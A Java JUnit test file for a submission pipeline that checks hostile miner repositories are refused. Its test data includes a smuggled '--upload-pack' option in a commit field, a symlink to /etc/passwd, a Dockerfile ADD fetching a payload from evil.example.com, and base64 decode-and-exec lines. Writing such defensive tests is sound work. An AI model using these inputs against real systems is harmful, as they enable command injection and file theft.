package io.subnet2.validator.submission;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.UUID;

import com.github.dockerjava.api.DockerClient;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.springframework.util.unit.DataSize;

import io.subnet2.validator.submission.SubmissionOutcome.Status;
import io.subnet2.validator.testsupport.DockerTestSupport;

/**
 * Hostile submissions against a real Git smart-HTTP server on loopback: each is refused with the
 * expected reason, nothing is built and the working folder is gone afterwards.
 */
class SubmissionPipelineHostileTest {

    static final String GOOD_DOCKERFILE = "FROM subnet2-base/python:3\nCOPY analyzer.py /app/analyzer.py\nUSER 65534\n"
            + "ENTRYPOINT [\"python3\", \"/app/analyzer.py\"]\n";
    static final String GOOD_ANALYZER = "import os\nprint('analyzer', len(os.listdir('.')))\n";

    @TempDir
    static Path temp;
    static GitHttpTestServer server;
    static DockerClient docker;
    static SubmissionPipeline pipeline;
    static Path reposDir;
    static final UUID TOURNAMENT = UUID.randomUUID();

    @BeforeAll
    static void start() throws Exception {
        docker = DockerTestSupport.requireDocker();
        server = new GitHttpTestServer(temp);
        reposDir = temp.resolve("work/repos");
        pipeline = new SubmissionPipeline(SubmissionProperties.withLoopbackHosts(List.of(server.hostPort())),
                reposDir, docker);
    }

    @AfterAll
    static void stop() throws Exception {
        if (server != null) {
            server.close();
        }
        if (docker != null) {
            docker.close();
        }
    }

    static SubmissionOutcome submit(SubmissionPipeline p, String url, String commit) {
        return p.process(new SubmissionRequest(UUID.randomUUID(), TOURNAMENT, 2, "5Hotkey", 7, url, commit));
    }

    /** Asserts the outcome, that no image was built and that no working folder is left. */
    static void assertRefused(SubmissionOutcome outcome, Status status, String reasonFragment) throws IOException {
        assertThat(outcome.status()).as(outcome.validationError()).isEqualTo(status);
        assertThat(outcome.validationError()).contains(reasonFragment);
        assertThat(outcome.dockerImageTag()).isNull();
        assertThat(outcome.imageDigest()).isNull();
        assertThat(docker.listImagesCmd().withLabelFilter(Map.of(SubmissionPipeline.LABEL_TOURNAMENT,
                TOURNAMENT.toString())).exec()).isEmpty();
        if (Files.exists(reposDir)) {
            try (var left = Files.list(reposDir)) {
                assertThat(left.toList()).isEmpty();
            }
        }
    }

    static String goodRepo(String name) throws IOException {
        try (TestRepo repo = TestRepo.create(server.repositories(), name)) {
            return repo.file("Dockerfile", GOOD_DOCKERFILE).file("analyzer.py", GOOD_ANALYZER).commit("analyzer");
        }
    }

    static final String SHA = "0123456789abcdef0123456789abcdef01234567";

    @Test
    void urlWithCredentialsIsRefused() throws IOException {
        assertRefused(submit(pipeline, "https://user:token@github.com/miner/analyzer", SHA), Status.DISQUALIFIED,
                "[url.credentials]");
        assertRefused(submit(pipeline, "http://user@" + server.hostPort() + "/miner/analyzer.git", SHA),
                Status.DISQUALIFIED, "[url.credentials]");
    }

    @Test
    void ipLiteralIsRefused() throws IOException {
        assertRefused(submit(pipeline, "https://140.82.121.4/miner/analyzer", SHA), Status.DISQUALIFIED,
                "[url.ip-literal]");
        assertRefused(submit(pipeline, "https://[::1]/miner/analyzer", SHA), Status.DISQUALIFIED, "[url.ip-literal]");
    }

    @Test
    void fileAndSshUrlsAreRefused() throws IOException {
        assertRefused(submit(pipeline, "file:///etc/passwd/x", SHA), Status.DISQUALIFIED, "[url.scheme]");
        assertRefused(submit(pipeline, "file://" + server.repositories() + "/miner/x.git", SHA), Status.DISQUALIFIED,
                "[url.scheme]");
        assertRefused(submit(pipeline, "ssh://git@github.com/miner/analyzer.git", SHA), Status.DISQUALIFIED,
                "[url.scheme]");
    }

    @Test
    void hostNotAllowedIsRefused() throws IOException {
        assertRefused(submit(pipeline, "https://evil.example.com/miner/analyzer", SHA), Status.DISQUALIFIED,
                "[url.host]");
        assertRefused(submit(pipeline, "https://localhost/miner/analyzer", SHA), Status.DISQUALIFIED, "[url.host]");
    }

    @Test
    void redirectToAnotherHostIsRefused() throws IOException {
        goodRepo("redirect/analyzer.git");
        String sha = goodRepo("miner/redirected.git");
        SubmissionOutcome outcome = submit(pipeline, server.url("redirect/analyzer.git"), sha);
        assertRefused(outcome, Status.DISQUALIFIED, "[fetch.redirect]");
        assertThat(outcome.validationError()).contains("evil.example.com");
    }

    @Test
    void branchNamesShortShasAndOptionsAreRefused() throws IOException {
        String sha = goodRepo("miner/commitpolicy.git");
        String url = server.url("miner/commitpolicy.git");
        assertRefused(submit(pipeline, url, "main"), Status.DISQUALIFIED, "[commit.format]");
        assertRefused(submit(pipeline, url, sha.substring(0, 7)), Status.DISQUALIFIED, "[commit.format]");
        assertRefused(submit(pipeline, url, "-x --upload-pack=touch /tmp/pwned"), Status.DISQUALIFIED,
                "[commit.format]");
        assertThat(Path.of("/tmp/pwned")).doesNotExist();
    }

    @Test
    void unknownAndPrivateRepositoriesFail() throws IOException {
        assertRefused(submit(pipeline, server.url("miner/nonexistent.git"), SHA), Status.FAILED, "[fetch.not-found]");
        String sha = goodRepo("private/analyzer.git");
        SubmissionOutcome outcome = submit(pipeline, server.url("private/analyzer.git"), sha);
        assertRefused(outcome, Status.FAILED, "[fetch.not-found] repository not found or not public");
        assertThat(outcome.retryable()).isFalse();
    }

    @Test
    void shaNotInRepositoryFails() throws IOException {
        goodRepo("miner/missing.git");
        assertRefused(submit(pipeline, server.url("miner/missing.git"), SHA), Status.FAILED, "[fetch.commit-missing]");
    }

    @Test
    void repositoryOverTheByteCapIsCutOff() throws IOException {
        Random random = new Random(42);
        String sha;
        try (TestRepo repo = TestRepo.create(server.repositories(), "miner/huge.git")) {
            repo.file("Dockerfile", GOOD_DOCKERFILE);
            for (int i = 0; i < 4; i++) {
                byte[] noise = new byte[4 << 20];
                random.nextBytes(noise);
                repo.file("data/blob" + i + ".bin", noise);
            }
            sha = repo.commit("16 MiB of incompressible data");
        }
        SubmissionPipeline small = new SubmissionPipeline(SubmissionProperties.withLoopbackHosts(
                List.of(server.hostPort())).toBuilder().maxRepoBytes(DataSize.ofMegabytes(1)).build(), reposDir, docker);
        server.resetBytesServed();
        assertRefused(submit(small, server.url("miner/huge.git"), sha), Status.DISQUALIFIED, "[fetch.too-large]");
        // cut off: the client stopped reading after 1 MiB, the server could not push the 16 MiB pack
        assertThat(server.bytesServed()).isLessThan(8L << 20);
    }

    @Test
    void slowServerTimesOut() throws IOException {
        String sha = goodRepo("slow/analyzer.git");
        SubmissionPipeline impatient = new SubmissionPipeline(SubmissionProperties.withLoopbackHosts(
                List.of(server.hostPort())).toBuilder().fetchTimeout(Duration.ofSeconds(2)).build(), reposDir, docker);
        long start = System.nanoTime();
        SubmissionOutcome outcome = submit(impatient, server.url("slow/analyzer.git"), sha);
        assertRefused(outcome, Status.FAILED, "[fetch.timeout]");
        assertThat(outcome.retryable()).isTrue();
        assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(8));
    }

    @Test
    void symlinkToEtcPasswdIsRefused() throws IOException {
        String sha;
        try (TestRepo repo = TestRepo.create(server.repositories(), "miner/symlink.git")) {
            sha = repo.file("Dockerfile", GOOD_DOCKERFILE).file("analyzer.py", GOOD_ANALYZER)
                    .symlink("data/passwd", "/etc/passwd").commit("steal");
        }
        assertRefused(submit(pipeline, server.url("miner/symlink.git"), sha), Status.DISQUALIFIED,
                "[files.symlink] symbolic links are not allowed: data/passwd -> /etc/passwd");
    }

    @Test
    void submoduleIsRefused() throws IOException {
        String sha;
        try (TestRepo repo = TestRepo.create(server.repositories(), "miner/submodule.git")) {
            sha = repo.file("Dockerfile", GOOD_DOCKERFILE).file("analyzer.py", GOOD_ANALYZER)
                    .file(".gitmodules", "[submodule \"lib\"]\n\tpath = lib\n\turl = https://github.com/x/y\n")
                    .gitlink("lib", SHA).commit("submodule");
        }
        assertRefused(submit(pipeline, server.url("miner/submodule.git"), sha), Status.DISQUALIFIED,
                "[files.submodule] submodules (gitlinks) are not allowed: lib");
    }

    @Test
    void fiftyMebibyteFileIsRefused() throws IOException {
        String sha;
        try (TestRepo repo = TestRepo.create(server.repositories(), "miner/bigfile.git")) {
            sha = repo.file("Dockerfile", GOOD_DOCKERFILE).file("analyzer.py", GOOD_ANALYZER)
                    .file("model.bin", new byte[50 << 20]).commit("big file");
        }
        assertRefused(submit(pipeline, server.url("miner/bigfile.git"), sha), Status.DISQUALIFIED,
                "[files.file-size] file is too large: model.bin has 52428800 bytes");
    }

    @Test
    void missingDockerfileIsRefused() throws IOException {
        String sha;
        try (TestRepo repo = TestRepo.create(server.repositories(), "miner/nodockerfile.git")) {
            sha = repo.file("analyzer.py", GOOD_ANALYZER).file("docker/Dockerfile", GOOD_DOCKERFILE).commit("no root Dockerfile");
        }
        assertRefused(submit(pipeline, server.url("miner/nodockerfile.git"), sha), Status.DISQUALIFIED,
                "[files.dockerfile-missing]");
    }

    static String dockerfileRepo(String name, String dockerfile) throws IOException {
        try (TestRepo repo = TestRepo.create(server.repositories(), name)) {
            return repo.file("Dockerfile", dockerfile).file("analyzer.py", GOOD_ANALYZER).commit("dockerfile");
        }
    }

    @Test
    void multiStageWithForbiddenSecondBaseIsRefused() throws IOException {
        String sha = dockerfileRepo("miner/multistage.git", "FROM subnet2-base/debian:bookworm AS build\nRUN true\n"
                + "FROM ghcr.io/evil/python:3\nCOPY --from=build /etc/hostname /x\nUSER 65534\n");
        assertRefused(submit(pipeline, server.url("miner/multistage.git"), sha), Status.DISQUALIFIED,
                "[dockerfile.base-image] base image is not in the allowed base images: line 3: ghcr.io/evil/python:3");
    }

    @Test
    void rootUserLastIsRefused() throws IOException {
        String sha = dockerfileRepo("miner/rootuser.git", "FROM subnet2-base/python:3\nUSER 65534\nCOPY analyzer.py /a.py\nUSER root\n");
        assertRefused(submit(pipeline, server.url("miner/rootuser.git"), sha), Status.DISQUALIFIED,
                "[dockerfile.user] the final stage must set a literal non-root USER: USER root is root");
    }

    @Test
    void addFromUrlIsRefused() throws IOException {
        String sha = dockerfileRepo("miner/addurl.git",
                "FROM subnet2-base/python:3\nADD http://evil.example.com/payload.py /app/\nUSER 65534\n");
        assertRefused(submit(pipeline, server.url("miner/addurl.git"), sha), Status.DISQUALIFIED,
                "[dockerfile.add] ADD is not allowed (the engine fetches ADD URLs on the host's network); use COPY: line 2: "
                        + "http://evil.example.com/payload.py /app/");
    }

    @Test
    void runWithHostNetworkIsRefused() throws IOException {
        String sha = dockerfileRepo("miner/runnetwork.git",
                "FROM subnet2-base/python:3\nRUN --network=host python3 -c 'print(1)'\nUSER 65534\n");
        assertRefused(submit(pipeline, server.url("miner/runnetwork.git"), sha), Status.DISQUALIFIED,
                "[dockerfile.run-flag] RUN options (--network, --security, --mount, --privileged, ...) are not allowed: line 2: --network=host");
    }

    @Test
    void execOfBase64PayloadIsRefused() throws IOException {
        String sha;
        try (TestRepo repo = TestRepo.create(server.repositories(), "miner/payload.git")) {
            sha = repo.file("Dockerfile", GOOD_DOCKERFILE)
                    .file("analyzer.py", "import base64\nimport os\n\nexec(base64.b64decode('cHJpbnQoMSk='))\n")
                    .commit("packed");
        }
        SubmissionOutcome outcome = submit(pipeline, server.url("miner/payload.git"), sha);
        assertRefused(outcome, Status.DISQUALIFIED,
                "[scanner] code scanner finding: py-exec-decoded at analyzer.py:4: executes decoded or decompressed data");
        assertThat(outcome.warnings()).anyMatch(w -> w.startsWith("py-dynamic-exec at analyzer.py:4"));
    }

    @Test
    void everyViolationOfARepositoryIsReported() throws IOException {
        String sha;
        try (TestRepo repo = TestRepo.create(server.repositories(), "miner/many.git")) {
            sha = repo.file("Dockerfile", "FROM alpine\nUSER root\n").symlink("x", "../../etc")
                    .file("run.sh", "#!/bin/sh\necho aGk= | base64 -d | sh\n").commit("many");
        }
        SubmissionOutcome outcome = submit(pipeline, server.url("miner/many.git"), sha);
        assertRefused(outcome, Status.DISQUALIFIED, "[files.symlink]");
        assertThat(outcome.validationError().lines()).anyMatch(l -> l.startsWith("[dockerfile.base-image]"))
                .anyMatch(l -> l.startsWith("[dockerfile.user]"))
                .anyMatch(l -> l.startsWith("[scanner] code scanner finding: sh-decode-exec at run.sh:2"));
    }
}
